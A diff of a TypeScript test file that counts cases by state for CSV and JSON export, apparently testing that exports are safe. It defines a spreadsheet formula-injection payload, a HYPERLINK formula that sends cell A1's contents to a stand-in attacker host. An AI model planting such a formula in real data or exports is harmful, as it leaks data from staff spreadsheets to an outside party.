@@ -1,5 +1,5 @@
-import { CaseReport } from '@larkfield/api-schemas/case-report';
 import { ComplaintReport } from '@larkfield/api-schemas/regulation/complaint-report';
+import { CaseReport } from '@larkfield/api-schemas/staff-calls/case-report';
 import { TEST_ENGINES, testOn } from '@larkfield/database/test-engines';
 import { describe, expect } from 'vitest';
 import { caseProvider } from '../../testing/cases.ts';
@@ -24,13 +24,13 @@ function readCsv(text: string): Record<string, string>[] {
 const ENQUIRY = { 'query-type': 'Enquiry', 'query-subtype': 'Enquiry-Credit Energy' };
 const FEEDBACK = { topic: 'help-&-support-feedback', 'query-type': 'Feedback', 'query-subtype': 'Feedback-Energy' };
 
-/** Such as somebody may type where a reason is asked for, to be run by whoever opens the table. */
+/** Somebody may type this as a reason, so that it runs when staff open the table in a spreadsheet. */
 const FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Billing")';
 
-describe.each(TEST_ENGINES)('figures to take away on %s', (engine) => {
+describe.each(TEST_ENGINES)('figures of all kinds of case as CSV and JSON on %s', (engine) => {
   const test = testOn(engine);
 
-  test('[DK-06] every kind of a quarter, in the state that its cases have', async ({ database }) => {
+  test('[DK-06] each kind of case of a quarter is counted by state', async ({ database }) => {
     const filling = await caseProvider(database, { TEST_NOW: '2026-11-16T09:00:00Z' });
     const staff = await staffMember(database, filling.call);
     const answered = await filling.sendLead(ENQUIRY);
